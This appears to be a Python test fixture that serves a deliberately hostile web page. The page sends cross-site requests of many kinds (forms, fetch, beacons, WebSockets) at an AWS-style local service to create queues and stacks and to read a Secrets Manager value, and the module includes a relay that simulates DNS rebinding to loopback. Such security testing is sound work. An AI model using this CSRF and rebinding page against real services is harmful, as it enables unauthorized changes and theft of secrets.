"""A hostile web site: its page tries all requests that HTML and scripts can send, and its server records results."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.client import HTTPConnection, HTTPException
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

HOME = "/attacker"
_TEMPLATE = json.dumps({"Resources": {"Queue": {"Type": "AWS::SQS::Queue", "Properties": {}}}})
_PAGE = """<!doctype html><meta name="referrer" content="no-referrer"><body><script>
const target = TARGET, health = HEALTH, template = TEMPLATE, home = location.origin + HOME;
const done = [], read = [];
const body = action => new URLSearchParams(action).toString();
const queue = name => ({Action: "CreateQueue", QueueName: "by-" + name, Version: "2012-11-05"});
const stack = name => ({Action: "CreateStack", StackName: "by-" + name, TemplateBody: template, Version: "2010-05-15"});
const url = action => target + "/?" + body(action);
const settle = element => new Promise(resolve => {
  element.onload = element.onerror = resolve;
  document.body.append(element);
  setTimeout(resolve, 8000);
});
function make(tag, fields) { return Object.assign(document.createElement(tag), fields); }
async function form(name, method, enctype, action) {
  const frame = make("iframe", {name});
  document.body.append(frame);
  const element = make("form", {method, enctype, action: target + "/", target: name});
  for (const [key, value] of Object.entries(action)) element.append(make("input", {name: key, value, type: "hidden"}));
  document.body.append(element);
  const sent = new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, 8000); });
  element.submit();
  await sent;
}
async function reads(name, address, options) {
  try {
    const answer = await fetch(address, options);
    const text = await answer.text();
    if (answer.ok && text) read.push(name + ": " + text.slice(0, 200));
  } catch (error) { /* The browser or the guard said no. */ }
}
function socket(address) {
  return new Promise(resolve => {
    try {
      const opened = new WebSocket(address);
      opened.onopen = () => { read.push("socket: open"); resolve(); };
      opened.onerror = opened.onclose = resolve;
    } catch (error) { resolve(); }
    setTimeout(resolve, 8000);
  });
}
const attempts = {
  image: () => settle(make("img", {src: url(queue("image"))})),
  imageStack: () => settle(make("img", {src: url(stack("image-stack"))})),
  script: () => settle(make("script", {src: url(queue("script"))})),
  style: () => settle(make("link", {rel: "stylesheet", href: url(queue("style"))})),
  frame: () => settle(make("iframe", {src: url(stack("frame"))})),
  sandboxedFrame: () => settle(make("iframe", {src: url(queue("sandboxed")), sandbox: ""})),
  video: () => settle(make("video", {src: url(queue("video"))})),
  prefetch: () => settle(make("link", {rel: "prefetch", href: url(queue("prefetch"))})),
  formGet: () => form("form-get", "get", "", queue("form-get")),
  formPost: () => form("form-post", "post", "application/x-www-form-urlencoded", stack("form-post")),
  formText: () => form("form-text", "post", "text/plain", queue("form-text")),
  formMultipart: () => form("form-multipart", "post", "multipart/form-data", queue("form-multipart")),
  fetchGet: () => reads("fetch get", url(queue("fetch-get"))),
  fetchNoCors: () => reads("fetch no-cors", url(queue("fetch-no-cors")), {mode: "no-cors"}),
  fetchPost: () => reads("fetch post", target + "/", {method: "POST", body: new URLSearchParams(stack("fetch-post"))}),
  fetchPostNoCors: () => reads("fetch post no-cors", target + "/",
    {method: "POST", mode: "no-cors", body: new URLSearchParams(queue("fetch-post-no-cors"))}),
  fetchJson: () => reads("fetch json", target + "/", {method: "POST", body: JSON.stringify({QueueName: "by-json"}),
    headers: {"X-Amz-Target": "AmazonSQS.CreateQueue", "Content-Type": "application/x-amz-json-1.0"}}),
  secret: () => reads("secret", target + "/", {method: "POST", body: JSON.stringify({SecretId: "own"}),
    headers: {"X-Amz-Target": "secretsmanager.GetSecretValue", "Content-Type": "application/x-amz-json-1.1"}}),
  health: () => reads("health", target + health),
  beacon: async () => navigator.sendBeacon(target + "/", new URLSearchParams(queue("beacon"))),
  events: () => new Promise(resolve => {
    const source = new EventSource(url(queue("events")));
    source.onerror = () => { source.close(); resolve(); };
    setTimeout(resolve, 8000);
  }),
  socket: () => socket(target.replace("http", "ws") + "/?" + body(queue("socket"))),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await attempt(); } catch (error) { /* Such as a refused WebSocket. */ }
    done.push(name);
  }
  await fetch(home + "/results", {method: "POST", body: JSON.stringify({done, read})});
})();
</script>"""
ATTEMPTS = 22
"""How many requests the page tries."""


class Site:
    """The web site's server; `results` is what the page reported once it had tried everything."""

    def __init__(self, host: str, port: int, relay_to: int | None) -> None:
        self.results: dict[str, list[str]] = {}
        self.finished = threading.Event()
        self.page = ""
        self.relay_to = relay_to
        self.relayed = 0
        self._server = ThreadingHTTPServer((host, port), lambda *arguments: _Handler(self, *arguments))
        self._server.daemon_threads = True
        self.port: int = self._server.server_address[1]

    def set_page(self, target: str, health: str) -> None:
        """Sets the page to one that attacks the target, an origin."""
        words = {"TARGET": target, "HEALTH": health, "TEMPLATE": _TEMPLATE, "HOME": HOME}
        self.page = _PAGE
        for word, value in words.items():
            self.page = self.page.replace(word, json.dumps(value))

    def serve(self) -> None:
        self._server.serve_forever(poll_interval=0.05)

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def site(host: str = "127.0.0.1", port: int = 0, *, relay_to: int | None = None) -> Iterator[Site]:
    """Serves the web site in the block.

    With `relay_to`, every request except the site's own is passed on unchanged to that port of loopback. A browser sees
    the same when a page's name is made to point at loopback after the page was loaded.
    """
    server = Site(host, port, relay_to)
    thread = threading.Thread(target=server.serve)
    thread.start()
    try:
        yield server
    finally:
        server.stop()
        thread.join()


class _Handler(BaseHTTPRequestHandler):
    def __init__(self, site: Site, *arguments: Any) -> None:
        self._site = site
        super().__init__(*arguments)

    def do_GET(self) -> None:
        if self.path == f"{HOME}/page":
            self._answer(200, self._site.page.encode(), "text/html")
        else:
            self._relay()

    def do_POST(self) -> None:
        if self.path == f"{HOME}/results":
            self._site.results = json.loads(self._body())
            self._site.finished.set()
            self._answer(204, b"", "text/plain")
        else:
            self._relay()

    def do_OPTIONS(self) -> None:
        self._relay()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's signature
        """Logs nothing."""

    def _body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def _relay(self) -> None:
        if self._site.relay_to is None:
            self._answer(404, b"", "text/plain")
            return
        self._site.relayed += 1
        connection = HTTPConnection("127.0.0.1", self._site.relay_to, timeout=30)
        try:
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                if name.lower() != "connection":
                    connection.putheader(name, value)
            connection.endheaders(self._body())
            answer = connection.getresponse()
            self._answer(answer.status, answer.read(), answer.getheader("Content-Type") or "text/plain")
        except (OSError, HTTPException):
            self.close_connection = True
        finally:
            connection.close()

    def _answer(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
